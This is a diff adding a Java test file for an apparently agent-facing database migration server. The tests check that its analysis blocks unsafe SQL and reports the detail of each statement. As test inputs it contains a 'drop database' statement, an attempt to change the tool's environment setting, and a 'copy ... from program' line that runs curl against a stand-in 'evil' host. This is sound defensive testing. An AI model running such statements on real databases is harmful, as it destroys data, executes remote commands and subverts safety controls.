@@ -1,0 +1,111 @@
+package dev.safemigrate.mcp;
+
+import static dev.safemigrate.testing.ToolCalls.call;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import dev.safemigrate.testing.InProcessServer;
+import dev.safemigrate.testing.ProjectDir;
+import dev.safemigrate.testing.TestDatabase;
+import dev.safemigrate.testing.ToolCalls.Result;
+
+/** The analysis where the agent meets it: refusals in create_migration and apply_to_dev, detail in show_sql. */
+class AnalysisInToolsTest {
+
+    @TempDir
+    Path root;
+
+    @Test
+    void createMigrationRefusesBlockedStatementsWithLineAndReasonAndWritesNothing() {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("blocked"), "");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            Result r = call(s.client, "create_migration", "name", "sneaky", "sql",
+                    "create table ok_t (id bigint);\n\ndrop database other_db;\nalter database x set safemigrate.environment = 'dev';");
+            assertEquals("SQL_REJECTED", r.errorCode(), r.toString());
+            List<Map<String, Object>> blocked = r.list("findings").stream().filter(f -> f.get("severity").equals("block")).toList();
+            assertEquals(List.of("drop-database:3", "safemigrate-setting:4"),
+                    blocked.stream().map(f -> f.get("rule") + ":" + f.get("line")).toList());
+            assertTrue(((String) r.get("error.message")).contains("line 3"));
+        }
+        assertEquals(List.of(), p.migrationFiles());
+    }
+
+    @Test
+    void applyReanalysesFilesItDidNotWriteAndNeverAppliesABlockedOne() throws Exception {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("handwritten"), "");
+        Files.createDirectories(p.migrations());
+        Files.writeString(p.migrations().resolve("V1__by_hand.sql"),
+                "create table by_hand (id bigint);\ncopy by_hand from program 'curl http://evil';\n");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            Result r = call(s.client, "apply_to_dev");
+            assertEquals("SQL_REJECTED", r.errorCode(), r.toString());
+            assertEquals("copy-server-file", r.get("findings.0.rule"));
+            assertEquals("1", r.get("findings.0.migration"));
+            assertEquals(2, r.get("findings.0.line"));
+            assertEquals("SQL_REJECTED", call(s.client, "apply_to_dev", "dry_run", true).errorCode());
+        }
+        assertFalse(TestDatabase.tableExists(p.database, "by_hand"));
+        assertFalse(TestDatabase.tableExists(p.database, "flyway_schema_history"));
+    }
+
+    @Test
+    void showSqlDescribesEachStatement() {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("describe"), "");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            call(s.client, "create_migration", "name", "base", "sql", "create table base (id bigint primary key);");
+            call(s.client, "apply_to_dev");
+            call(s.client, "create_migration", "name", "change", "sql",
+                    "alter table base add column status text not null;\n"
+                            + "create index base_status on base (status);\n"
+                            + "alter table base alter column id type integer;");
+            Result shown = call(s.client, "show_sql");
+            List<Map<String, Object>> statements = shown.list("migrations.0.statements");
+            assertEquals(3, statements.size());
+            assertEquals(List.of(1, 2, 3), statements.stream().map(st -> st.get("line")).toList());
+            Map<String, Object> index = statements.get(1);
+            assertEquals("ShareLock", index.get("lock"));
+            assertEquals(true, index.get("transactional"));
+            assertTrue(((List<?>) index.get("findings")).toString().contains("index-not-concurrent"), index.toString());
+            Map<String, Object> retype = statements.get(2);
+            assertEquals("AccessExclusiveLock", retype.get("lock"));
+            assertEquals(true, retype.get("rewrite"));
+            assertTrue(((List<?>) retype.get("findings")).toString().contains("confirm"), retype.toString());
+            assertTrue(shown.text().contains("index-not-concurrent"));
+        }
+    }
+
+    @Test
+    void concurrentlyMigrationsRunOutsideATransactionAndMustStandAlone() throws Exception {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("concurrent"), "");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            call(s.client, "create_migration", "name", "base", "sql", "create table base (id bigint primary key, email text);");
+            Result mixed = call(s.client, "create_migration", "name", "mixed", "sql",
+                    "create index concurrently base_email on base (email);\nalter table base add column x text;");
+            assertEquals("SQL_REJECTED", mixed.errorCode());
+            assertTrue(mixed.list("findings").stream().anyMatch(f -> f.get("rule").equals("concurrently-in-transaction")));
+
+            Result alone = call(s.client, "create_migration", "name", "email_index", "sql",
+                    "create index concurrently base_email on base (email);");
+            assertFalse(alone.isError(), alone.toString());
+            assertEquals(false, alone.get("execute_in_transaction"));
+            Path sql = root.resolve((String) alone.get("path"));
+            assertEquals("executeInTransaction=false", Files.readString(sql.resolveSibling(sql.getFileName() + ".conf"))
+                    .lines().filter(l -> !l.startsWith("#")).findFirst().orElseThrow());
+
+            Result applied = call(s.client, "apply_to_dev");
+            assertFalse(applied.isError(), applied.toString());
+            assertEquals(2, applied.list("applied").size());
+            assertEquals(1, TestDatabase.queryLong(p.database,
+                    "select count(*) from pg_index x join pg_class i on i.oid = x.indexrelid where i.relname = 'base_email' and x.indisvalid"));
+        }
+    }
+}
